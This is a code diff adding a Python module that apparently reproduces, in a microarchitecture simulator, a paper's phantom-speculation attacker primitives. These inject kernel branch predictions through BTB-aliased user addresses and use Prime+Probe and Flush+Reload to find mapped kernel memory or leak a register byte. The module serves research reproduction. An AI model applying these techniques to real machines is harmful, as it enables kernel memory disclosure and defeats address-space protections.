@@ -1,0 +1,151 @@
+"""The paper's attacker primitives P1, P2 and P3 (§6.1).
+
+All three share one ingredient: injecting a prediction at a *kernel*
+branch source from user space by training a branch at a BTB-aliased
+user address (cross-privilege aliasing, §6.2).  They differ in what the
+phantom target does and how the attacker observes it:
+
+* **P1** — detect mapped *executable* kernel memory: the phantom
+  *fetch* of target T fills the I-cache only if T is mapped executable;
+  observed with Prime+Probe on the instruction cache.
+* **P2** — detect mapped (even non-executable) memory on Zen 1/2: the
+  phantom window *executes* a disclosure gadget that loads T; observed
+  with Prime+Probe on L2 (huge-page eviction sets).
+* **P3** — leak a victim register byte on Zen 1/2: the gadget shifts
+  the byte into a line-aligned offset and loads from a shared reload
+  buffer; observed with Flush+Reload.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..params import VA_MASK
+from ..sidechannel import (PrimeProbeL1I, PrimeProbeL2, ReloadBuffer, Timer)
+from .attacker import AttackerRuntime
+
+
+class PhantomInjector:
+    """Cross-privilege BTB prediction injection (the §6.2 capability)."""
+
+    def __init__(self, machine) -> None:
+        self.machine = machine
+        self.attacker = AttackerRuntime(machine)
+        #: Flip pattern the reverse engineering produced (Figure 7 /
+        #: the published masks); XORing a kernel source with it gives a
+        #: colliding user source.
+        self.alias_mask = machine.uarch.btb.kernel_alias_mask()
+
+    def user_alias(self, kernel_src: int) -> int:
+        """User-space address aliasing with *kernel_src* in the BTB."""
+        return (kernel_src ^ self.alias_mask) & VA_MASK
+
+    def inject(self, kernel_src: int, target: int) -> None:
+        """Install a jmp*-kind prediction at *kernel_src* -> *target*.
+
+        Performed by executing a real indirect branch at the aliased
+        user address; the jump to *target* (usually a kernel address)
+        faults architecturally and the fault is caught — the paper's
+        training technique.
+        """
+        self.attacker.train_indirect(self.user_alias(kernel_src), target)
+
+
+@dataclass
+class ProbeSample:
+    """One Prime+Probe measurement pair for differencing."""
+
+    signal: int      # probe latency with the target mapping to the set
+    baseline: int    # probe latency with the target mapping elsewhere
+
+
+class P1MappedExecutable:
+    """P1: detect mapped executable kernel memory via phantom fetch."""
+
+    def __init__(self, machine, injector: PhantomInjector | None = None,
+                 pp: PrimeProbeL1I | None = None) -> None:
+        self.machine = machine
+        self.injector = injector or PhantomInjector(machine)
+        self.pp = pp or PrimeProbeL1I(machine)
+
+    @staticmethod
+    def l1i_set_of(va: int) -> int:
+        return (va >> 6) & 63
+
+    def probe_once(self, kernel_src: int, target: int,
+                   run_victim) -> int:
+        """prime -> inject -> victim -> probe; returns probe latency."""
+        set_index = self.l1i_set_of(target)
+        self.pp.prime(set_index)
+        self.injector.inject(kernel_src, target)
+        run_victim()
+        return self.pp.probe(set_index)
+
+    def sample(self, kernel_src: int, target: int, run_victim,
+               *, off_set_distance: int = 32) -> ProbeSample:
+        """Differenced measurement (§7.3) in units of evicted lines:
+        the baseline run injects a target mapping to an unrelated
+        I-cache set but probes the same set, cancelling systematic
+        syscall thrash.  Per-line miss counting is far more robust
+        against timer jitter than summed latencies."""
+        set_index = self.l1i_set_of(target)
+        self.pp.prime(set_index)
+        self.injector.inject(kernel_src, target)
+        run_victim()
+        signal = self.pp.probe_misses(set_index)
+        off_target = target ^ (off_set_distance << 6)
+        self.pp.prime(set_index)
+        self.injector.inject(kernel_src, off_target)
+        run_victim()
+        baseline = self.pp.probe_misses(set_index)
+        return ProbeSample(signal=signal, baseline=baseline)
+
+
+class P2MappedMemory:
+    """P2: detect mapped kernel memory via a phantom-window load.
+
+    Requires a µarch whose phantom window reaches execute (Zen 1/2) and
+    a disclosure gadget in the victim's address space (Listing 3); the
+    victim syscall must place the attacker-controlled pointer in the
+    gadget's register (readv: RSI -> R12, §7.2).
+    """
+
+    GADGET_DISPLACEMENT = 0xBE0   # Listing 3 loads [r12 + 0xbe0]
+
+    def __init__(self, machine, injector: PhantomInjector | None = None,
+                 pp: PrimeProbeL2 | None = None) -> None:
+        self.machine = machine
+        self.injector = injector or PhantomInjector(machine)
+        self.pp = pp or PrimeProbeL2(machine)
+
+    def probe_once(self, call_site: int, gadget: int, target: int,
+                   l2_set: int, run_victim) -> int:
+        """prime -> inject(call_site -> gadget) -> victim(target) -> probe."""
+        self.pp.prime(l2_set)
+        self.injector.inject(call_site, gadget)
+        run_victim(target - self.GADGET_DISPLACEMENT)
+        return self.pp.probe(l2_set)
+
+
+class P3RegisterLeak:
+    """P3: leak a byte of a victim register through a shifted load.
+
+    The disclosure gadget arranges the byte into bits [13:6] (a
+    line-aligned offset) and loads from the reload buffer; Flush+Reload
+    recovers the byte.
+    """
+
+    def __init__(self, machine, injector: PhantomInjector | None = None,
+                 reload_buffer: ReloadBuffer | None = None) -> None:
+        self.machine = machine
+        self.injector = injector or PhantomInjector(machine)
+        self.reload = reload_buffer or ReloadBuffer(machine)
+
+    def leak_byte(self, branch_site: int, gadget: int, run_victim,
+                  *, retries: int = 3) -> int | None:
+        """Inject gadget at branch_site, run the victim, F+R the byte."""
+        def trigger():
+            self.injector.inject(branch_site, gadget)
+            run_victim()
+
+        return self.reload.leak_byte(trigger, retries=retries)
